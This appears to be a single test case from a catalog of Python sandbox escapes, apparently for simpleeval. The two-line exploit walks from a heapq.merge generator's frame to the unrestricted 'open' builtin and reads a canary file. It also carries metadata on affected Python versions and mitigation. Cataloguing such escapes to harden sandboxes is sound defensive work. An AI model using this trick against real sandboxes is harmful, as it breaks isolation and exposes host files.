# id: host-generator-frame
# family: frames
# kind: information-leak
# invariant: C, D, E
# origin: a report to simpleeval about generators given out by the host
# technique: a suspended generator of a trusted module shows its frame, and the frame its builtins
# needs: any
# pythons: 3.11.2, 3.12.1, 3.13.0
# stopped-by: permits
# fix: structural
# alive-when: canary

import heapq

trusted = heapq.merge([1], [2])
print(trusted.gi_frame.f_builtins["open"]("canary.txt").read())
